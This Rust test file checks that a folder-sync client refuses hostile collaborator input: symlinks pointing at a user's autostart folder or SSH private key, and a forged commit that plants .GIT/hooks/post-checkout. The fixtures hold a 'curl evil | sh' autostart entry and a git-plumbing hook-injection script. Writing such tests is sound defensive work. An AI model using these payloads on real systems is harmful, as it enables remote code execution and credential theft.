//! Hostile inputs: nothing under a saved folder is read or written through a link, names git refuses, the terminal's questions.

use super::*;

// ---------------------------------------------------------------------------
// Hostile inputs, part 2: nothing under a saved folder is read or written
// through a link. A collaborator commits `scripts` as a link to the owner's
// `~/.config/autostart` in place of the folder; whatever the owner then does
// (resolve, keep mine, keep both, sync or discard after a take-over, the
// page's view of a file), nothing is written, replaced or read there.
// ---------------------------------------------------------------------------

/// alice's `Tools` (`scripts/run.sh` and `readme.txt`), shared with bob,
/// and her `~/.config/autostart`, where a file runs at her next login.
struct Tools {
    server: Server,
    laptop1: Machine,
    desk: Machine,
    tools: PathBuf,
    autostart: PathBuf,
}

fn tools_shared_with_bob() -> Tools {
    let server = Server::with_users();
    let laptop1 = server.machine("alice", "laptop-1");
    let desk = server.machine("bob", "desk");
    let tools = laptop1.folder("Tools");
    write(&tools, "scripts/run.sh", "echo first\n");
    write(&tools, "readme.txt", "tools\n");
    laptop1.run(&["new", "Tools"]).expect_code(0);
    laptop1.run(&["share", "Tools", "bob"]).expect_code(0);
    let autostart = laptop1.home.join(".config/autostart");
    std::fs::create_dir_all(&autostart).unwrap();
    Tools {
        server,
        laptop1,
        desk,
        tools,
        autostart,
    }
}

/// What `dir` holds: names and contents (links named, never followed).
fn listing(dir: &Path) -> Vec<(String, String)> {
    let mut out: Vec<(String, String)> = std::fs::read_dir(dir)
        .unwrap()
        .flatten()
        .map(|e| {
            let text = std::fs::read_to_string(e.path()).unwrap_or_else(|_| "(not a file)".into());
            (e.file_name().to_string_lossy().into_owned(), text)
        })
        .collect();
    out.sort();
    out
}

/// bob puts, in his copy `theirs`, a link to `target` in place of the folder
/// `scripts`, and sends it.
fn replace_scripts_with_a_link(desk: &Machine, theirs: &Path, target: &Path) {
    std::fs::remove_dir_all(theirs.join("scripts")).unwrap();
    std::os::unix::fs::symlink(target, theirs.join("scripts")).unwrap();
    desk.run_in(theirs, &["sync"]).expect_code(0);
}

/// The owner is told, in plain words, that the link was not gone through.
fn told_of_the_link(run: &Run, autostart: &Path) {
    plain(run);
    let said = format!("{}\n{}", run.stdout, run.stderr);
    assert!(
        said.contains(&format!(
            "in the server's version, scripts is a link to {} instead of a folder, \
             and nothing is ever written through a link",
            autostart.display()
        )),
        "{said}"
    );
}

/// bob first sends an innocent-looking `scripts/evil.desktop`, which alice
/// brings in, then turns `scripts` into a link to alice's autostart folder;
/// alice, with a change of hers never sent, resolves.
fn evil_desktop_then_a_link(t: &Tools) -> Run {
    t.desk.run(&["get", "alice/tools"]).expect_code(0);
    let theirs = t.desk.folder("Tools");
    write(
        &theirs,
        "scripts/evil.desktop",
        "[Desktop Entry]\nExec=sh -c 'curl evil | sh'\n",
    );
    t.desk.run_in(&theirs, &["sync"]).expect_code(0);
    t.laptop1.run_in(&t.tools, &["sync"]).expect_code(0);
    assert!(t.tools.join("scripts/evil.desktop").is_file());

    replace_scripts_with_a_link(&t.desk, &theirs, &t.autostart);
    write(&t.tools, "scripts/run.sh", "echo mine\n");
    t.laptop1.run_in(&t.tools, &["save"]).expect_code(0);
    let refused = t.laptop1.run_in(&t.tools, &["sync"]).expect_code(1);
    assert!(
        refused.stderr.contains("girofle-client resolve"),
        "{}",
        refused.stderr
    );
    t.laptop1.run_in(&t.tools, &["resolve"])
}

#[test]
fn resolve_never_puts_a_file_back_through_a_link_a_collaborator_committed() {
    let t = tools_shared_with_bob();
    let run = evil_desktop_then_a_link(&t);
    assert_eq!(
        listing(&t.autostart),
        vec![],
        "nothing written outside the folder"
    );
    let run = run.expect_code(0);
    told_of_the_link(&run, &t.autostart);
    assert!(
        run.stderr.contains("2 files of yours were not put back")
            && run.stderr.contains("scripts/evil.desktop, scripts/run.sh"),
        "{}",
        run.stderr
    );
    assert!(
        std::fs::symlink_metadata(t.tools.join("scripts"))
            .unwrap()
            .file_type()
            .is_symlink(),
        "the server's link stays a link"
    );
    let run = t.laptop1.run_in(&t.tools, &["status"]).expect_code(0);
    plain(&run);
    // Nothing of alice's is lost: it is in the copy kept aside.
    let asides = names_starting(&t.laptop1.documents, "Tools (copy ");
    assert_eq!(asides.len(), 1);
    assert_eq!(read(&asides[0], "scripts/run.sh"), "echo mine\n");
    assert_eq!(listing(&t.autostart), vec![]);
}

/// alice's autostart folder already holds `run.sh` of her own; bob's link
/// makes it look like the server's `scripts/run.sh`, which differs from
/// alice's: she is offered (or not) to keep hers, or both.
fn keep_through_a_link(keep: &str) {
    let t = tools_shared_with_bob();
    write(&t.autostart, "run.sh", "alice's own login script\n");
    let before = listing(&t.autostart);
    t.desk.run(&["get", "alice/tools"]).expect_code(0);
    replace_scripts_with_a_link(&t.desk, &t.desk.folder("Tools"), &t.autostart);
    write(&t.tools, "scripts/run.sh", "echo mine\n");
    t.laptop1.run_in(&t.tools, &["save"]).expect_code(0);
    let listed = t.laptop1.run_in(&t.tools, &["resolve"]);
    assert_eq!(
        listing(&t.autostart),
        before,
        "nothing written outside the folder"
    );
    let kept = t
        .laptop1
        .run_in(&t.tools, &["resolve", "--keep", keep, "scripts/run.sh"]);
    assert_eq!(
        listing(&t.autostart),
        before,
        "nothing written or replaced outside the folder"
    );
    told_of_the_link(&listed.expect_code(0), &t.autostart);
    let kept = kept.expect_code(2);
    plain(&kept);
    assert!(
        kept.stderr.contains("no file is waiting for a choice"),
        "{}",
        kept.stderr
    );
}

#[test]
fn keep_mine_never_replaces_a_file_through_a_link() {
    keep_through_a_link("mine");
}

#[test]
fn keep_both_never_writes_beside_a_file_through_a_link() {
    keep_through_a_link("both");
}

/// alice changes `scripts/run.sh` and adds `scripts/todo.txt` without
/// sending; bob takes the folder over on his desk and turns `scripts` into
/// a link to alice's autostart folder; alice then runs `action`, which acts
/// on the take-over (her work kept aside, the server's version brought in).
fn after_a_take_over(action: &[&str]) {
    let t = tools_shared_with_bob();
    write(&t.tools, "scripts/run.sh", "echo mine\n");
    write(&t.tools, "scripts/todo.txt", "finish the script\n");
    t.laptop1.run_in(&t.tools, &["status"]).expect_code(0);
    t.desk
        .run(&["get", "alice/tools", "--take-over", "--yes"])
        .expect_code(0);
    replace_scripts_with_a_link(&t.desk, &t.desk.folder("Tools"), &t.autostart);

    let run = t.laptop1.run_in(&t.tools, action);
    assert_eq!(
        listing(&t.autostart),
        vec![],
        "nothing written outside the folder"
    );
    let run = run.expect_code(1);
    assert!(
        run.stderr.contains("bob/desk took this folder over")
            || run.stderr.contains("desk took this folder over"),
        "{}",
        run.stderr
    );
    told_of_the_link(&run, &t.autostart);
    assert!(
        run.stderr.contains("scripts/run.sh, scripts/todo.txt"),
        "{}",
        run.stderr
    );
    let asides = names_starting(&t.laptop1.documents, "Tools (copy ");
    assert_eq!(asides.len(), 1);
    assert_eq!(read(&asides[0], "scripts/todo.txt"), "finish the script\n");
    drop(t.server);
}

#[test]
fn sync_after_a_take_over_never_writes_through_a_link() {
    after_a_take_over(&["sync"]);
}

#[test]
fn discard_after_a_take_over_never_writes_through_a_link() {
    after_a_take_over(&["discard", "--yes"]);
}

/// Percent-encodes a query value.
fn encoded(text: &str) -> String {
    text.bytes()
        .map(|b| {
            if b.is_ascii_alphanumeric() || b"-_.~".contains(&b) {
                (b as char).to_string()
            } else {
                format!("%{b:02X}")
            }
        })
        .collect()
}

/// A process stopped when dropped, even when the test fails.
struct Stopped(std::process::Child);

impl Drop for Stopped {
    fn drop(&mut self) {
        let _ = self.0.kill();
        let _ = self.0.wait();
    }
}

#[test]
fn the_page_never_shows_a_file_through_a_link() {
    let t = tools_shared_with_bob();
    let secret = t.laptop1.home.join(".ssh/id_ed25519");
    write(secret.parent().unwrap(), "id_ed25519", "PRIVATE KEY\n");
    // bob's version of readme.txt is a link to alice's key; alice changed
    // readme.txt too, so it waits for her choice, and the page shows both.
    t.desk.run(&["get", "alice/tools"]).expect_code(0);
    let theirs = t.desk.folder("Tools");
    std::fs::remove_file(theirs.join("readme.txt")).unwrap();
    std::os::unix::fs::symlink(&secret, theirs.join("readme.txt")).unwrap();
    t.desk.run_in(&theirs, &["sync"]).expect_code(0);
    write(&t.tools, "readme.txt", "alice's readme\n");
    t.laptop1.run_in(&t.tools, &["save"]).expect_code(0);
    let listed = t.laptop1.run_in(&t.tools, &["resolve"]).expect_code(0);
    assert_eq!(listed.stdout.trim(), "readme.txt");

    let mut page = Stopped(
        t.laptop1
            .command(&t.laptop1.documents)
            .args(["ui", "--no-browser", "--check-every", "3600"])
            .stdout(Stdio::piped())
            .spawn()
            .unwrap(),
    );
    let mut line = String::new();
    std::io::BufRead::read_line(
        &mut std::io::BufReader::new(page.0.stdout.take().unwrap()),
        &mut line,
    )
    .unwrap();
    // The page's key comes after `#` and goes in the header its script sends.
    let (base, key) = line.trim().split_once("/#").expect("the page's address");
    let address = |side: &str| {
        format!(
            "{base}/file?folder={}&file=readme.txt&side={side}",
            encoded(&t.tools.canonicalize().unwrap().to_string_lossy())
        )
    };
    let get = |url: &str| {
        let output = Command::new("curl")
            .args([
                "--silent",
                "--show-error",
                "--write-out",
                "\n%{http_code}",
                "-H",
                &format!("X-Girofle-Key: {key}"),
                url,
            ])
            .output()
            .unwrap();
        String::from_utf8_lossy(&output.stdout).into_owned()
    };
    let mine = get(&address("mine"));
    let server = get(&address("server"));
    drop(page);
    assert!(mine.starts_with("alice's readme\n"), "{mine}");
    assert!(
        !server.contains("PRIVATE KEY"),
        "the key was shown: {server}"
    );
    assert!(
        server.contains("is a link") && server.ends_with("404"),
        "{server}"
    );
}

#[test]
fn a_version_holding_names_git_refuses_is_reported_not_written() {
    let t = tools_shared_with_bob();
    // A version holding `.GIT/hooks/post-checkout` (a file git runs, on a
    // system that does not tell cases apart) appears on the server. GitLab
    // checks what is pushed (fsck refuses it, as the stand-in does), so it
    // is put there behind git's back: by an import, a restored backup, or a
    // server that does not check.
    let script = "set -e
        cd /var/opt/gitlab/git-data/repositories/alice/tools.git
        export GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=safe.directory GIT_CONFIG_VALUE_0='*'
        export GIT_AUTHOR_NAME=bob GIT_AUTHOR_EMAIL=bob@example.org
        export GIT_COMMITTER_NAME=bob GIT_COMMITTER_EMAIL=bob@example.org
        blob=$(printf '#!/bin/sh\\necho owned\\n' | git hash-object -w --stdin)
        hooks=$(printf '100755 blob %s\\tpost-checkout\\n' $blob | git mktree)
        dotgit=$(printf '040000 tree %s\\thooks\\n' $hooks | git mktree)
        tree=$( (git ls-tree main; printf '040000 tree %s\\t.GIT\\n' $dotgit) | git mktree)
        commit=$(git commit-tree $tree -p main -m 'hooks')
        git update-ref refs/heads/main $commit
        chown -R 998:998 .";
    let output = Command::new("docker")
        .args(["exec", &t.server.container, "sh", "-c", script])
        .output()
        .unwrap();
    assert!(
        output.status.success(),
        "{}",
        String::from_utf8_lossy(&output.stderr)
    );

    let before = contents(&t.tools);
    let run = t.laptop1.run_in(&t.tools, &["sync"]).expect_code(1);
    plain(&run);
    assert!(
        run.stderr.contains(
            "the server's version of alice/tools holds 1 file that cannot be put in a folder, \
             so nothing of it was written and your folder is as it was: \
             .GIT/hooks/post-checkout (its name is kept for the folder's history)"
        ),
        "{}",
        run.stderr
    );
    assert_eq!(contents(&t.tools), before);
    // Nor is it brought to a new machine.
    let laptop2 = t.server.machine("alice", "laptop-2");
    let run = laptop2.run(&["get", "tools"]).expect_code(1);
    plain(&run);
    assert!(
        run.stderr
            .contains(".GIT/hooks/post-checkout (its name is kept"),
        "{}",
        run.stderr
    );
    assert!(!laptop2.folder("Tools").exists());
}

#[test]
fn resolve_on_a_terminal_asks_file_by_file() {
    let server = Server::with_users();
    let laptop1 = server.machine("alice", "laptop-1");
    let laptop2 = server.machine("alice", "laptop-2");
    let report = laptop1.folder("Report");
    write(&report, "x.txt", "x first\n");
    write(&report, "y.txt", "y first\n");
    laptop1.run(&["new", "Report"]).expect_code(0);
    laptop2.run(&["get", "report"]).expect_code(0);
    let here = laptop2.folder("Report");
    write(&here, "x.txt", "x from laptop-2\n");
    write(&here, "y.txt", "y from laptop-2\n");
    laptop2.run_in(&here, &["sync"]).expect_code(0);

    // Both changed the same files; laptop-1 is asked to bring them together.
    write(&report, "x.txt", "x from laptop-1\n");
    write(&report, "y.txt", "y from laptop-1\n");
    let run = laptop1.run_in(&report, &["sync"]).expect_code(1);
    plain(&run);
    assert!(
        run.stderr.contains("girofle-client resolve"),
        "{}",
        run.stderr
    );

    // On a terminal (script(1) gives it one), it asks for each file.
    let mut child = laptop1
        .command_for(Path::new("script"), &report)
        .arg("-qec")
        .arg(format!("{} resolve", client_binary().display()))
        .arg("/dev/null")
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    child.stdin.take().unwrap().write_all(b"mine\nb\n").unwrap();
    let run = Run::from(child.wait_with_output().unwrap()).expect_code(0);
    assert!(
        run.stdout
            .contains("x.txt differs. Keep (m)ine, the (s)erver's, or (b)oth?"),
        "{}",
        run.stdout
    );
    plain(&run);
    laptop1.run_in(&report, &["sync"]).expect_code(0);
    laptop2.run_in(&here, &["sync"]).expect_code(0);
    assert_eq!(
        contents(&here),
        vec![
            ("x.txt".to_string(), "x from laptop-1\n".to_string()),
            (
                "y (from laptop-1).txt".to_string(),
                "y from laptop-1\n".to_string()
            ),
            ("y.txt".to_string(), "y from laptop-2\n".to_string()),
        ]
    );
}
